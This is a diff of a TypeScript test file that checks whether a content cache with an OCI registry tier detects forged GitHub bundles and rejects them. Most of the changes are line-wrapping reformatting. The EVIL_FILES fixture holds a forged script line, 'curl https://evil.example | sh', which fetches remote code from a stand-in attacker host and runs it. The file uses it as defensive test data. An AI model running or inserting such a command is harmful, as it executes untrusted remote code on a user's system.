@@ -3,7 +3,16 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type ContentStore, type Fill, type StoreEvent, ociRemote, openContentStore } from '@agentproto/content-cache';
 import { systemGitEngine } from '@agentproto/git';
-import { type GitHttpServer, type MadeRepo, type OciRegistry, type TempDir, makeRepo, startGitHttpServer, startOciRegistry, tempDir as sharedDir } from '@agentproto/testkit';
+import {
+  type GitHttpServer,
+  type MadeRepo,
+  type OciRegistry,
+  type TempDir,
+  makeRepo,
+  startGitHttpServer,
+  startOciRegistry,
+  tempDir as sharedDir,
+} from '@agentproto/testkit';
 import { type GithubAccess, defineCodeWithReport } from '../../src/index.js';
 import { githubConnector } from '../../src/github/connector.js';
 import { writeBundle } from '../../src/tar/index.js';
@@ -20,14 +29,20 @@ let git: GitHttpServer;
 let tool: MadeRepo;
 let counter = 0;
 
-const EVIL_FILES = [{ path: 'bin/run.sh', data: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), executable: true }];
+const EVIL_FILES = [
+  { path: 'bin/run.sh', data: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), executable: true },
+];
 
 beforeAll(async () => {
   served = await sharedDir();
   tool = await makeRepo({
     root: served.path,
     name: 'acme/tool.git',
-    commits: [{ files: { 'package.json': '{"name":"tool"}\n', 'bin/run.sh': { content: '#!/bin/sh\necho ok\n', mode: 0o755 } } }],
+    commits: [
+      {
+        files: { 'package.json': '{"name":"tool"}\n', 'bin/run.sh': { content: '#!/bin/sh\necho ok\n', mode: 0o755 } },
+      },
+    ],
   });
   git = await startGitHttpServer({ root: served.path });
   registry = await startOciRegistry();
@@ -41,10 +56,19 @@ afterAll(async () => {
 
 const code = () => ({ sources: [{ github: { repo: 'acme/tool', ref: tool.commits[0]! } }] });
 // Without a store: straight from the origin (the honest bytes to compare with).
-const connector = (cache?: ContentStore) => githubConnector({ baseUrl: git.url, cache: cache ?? false, git: { allowInsecureHttp: true, engine: systemGitEngine() } });
+const connector = (cache?: ContentStore) =>
+  githubConnector({
+    baseUrl: git.url,
+    cache: cache ?? false,
+    git: { allowInsecureHttp: true, engine: systemGitEngine() },
+  });
 
 async function storeOn(repository: string, events: StoreEvent[] = []): Promise<ContentStore> {
-  return openContentStore({ root: join(await tempDir(), 'store'), remote: ociRemote({ url: registry.url, repository, allowInsecureHttp: true }), onEvent: (event) => events.push(event) });
+  return openContentStore({
+    root: join(await tempDir(), 'store'),
+    remote: ociRemote({ url: registry.url, repository, allowInsecureHttp: true }),
+    onEvent: (event) => events.push(event),
+  });
 }
 
 /**
@@ -70,14 +94,27 @@ describe('a pinned github bundle with a registry tier', () => {
 
     // Forged folder and archive: the real connector over the forging store.
     const attacker = forging(await storeOn(repository));
-    const viaConnector = await defineCodeWithReport({ workspaceRoot, github: connector(attacker), cache: attacker, code: code() });
+    const viaConnector = await defineCodeWithReport({
+      workspaceRoot,
+      github: connector(attacker),
+      cache: attacker,
+      code: code(),
+    });
     expect(viaConnector.report.sha256).not.toBe(honest.report.sha256);
     await attacker.remoteIdle();
     // Forged pinned bundle too, in a second registry repository with nothing else in it.
     const pinnedOnly = `${repository}-pinned`;
-    const evilAccess: GithubAccess = { resolveRef: async (_repo, ref) => ref, fetch: async () => writeBundle(EVIL_FILES) };
+    const evilAccess: GithubAccess = {
+      resolveRef: async (_repo, ref) => ref,
+      fetch: async () => writeBundle(EVIL_FILES),
+    };
     const attacker2 = forging(await storeOn(pinnedOnly));
-    const forgedPinned = await defineCodeWithReport({ workspaceRoot, github: evilAccess, cache: attacker2, code: code() });
+    const forgedPinned = await defineCodeWithReport({
+      workspaceRoot,
+      github: evilAccess,
+      cache: attacker2,
+      code: code(),
+    });
     expect(forgedPinned.report.sha256).not.toBe(honest.report.sha256);
     await attacker2.remoteIdle();
 
@@ -88,7 +125,8 @@ describe('a pinned github bundle with a registry tier', () => {
       expect(createHash('sha256').update(got.bundle).digest('hex')).toBe(honest.report.sha256);
       expect(got.report.sha256).toBe(honest.report.sha256);
       expect(events.filter((e) => e.type === 'remote-hit')).toEqual([]);
-      if (name === repository) expect(events.filter((e) => e.type === 'remote-warning').map((e) => e.code)).toEqual(['CACHE_REMOTE_UNPROVEN']);
+      if (name === repository)
+        expect(events.filter((e) => e.type === 'remote-warning').map((e) => e.code)).toEqual(['CACHE_REMOTE_UNPROVEN']);
     }
   });
 
@@ -104,6 +142,8 @@ describe('a pinned github bundle with a registry tier', () => {
     const second = await defineCodeWithReport({ workspaceRoot, github: connector(b), cache: b, code: code() });
     expect(second.report.sha256).toBe(first.report.sha256);
     expect(events.filter((e) => e.type === 'remote-hit')).toHaveLength(1);
-    expect(git.stats.log.filter((r) => r.method === 'POST').map((r) => [r.command, r.filter])).toEqual([['fetch', 'tree:0']]);
+    expect(git.stats.log.filter((r) => r.method === 'POST').map((r) => [r.command, r.filter])).toEqual([
+      ['fetch', 'tree:0'],
+    ]);
   });
 });
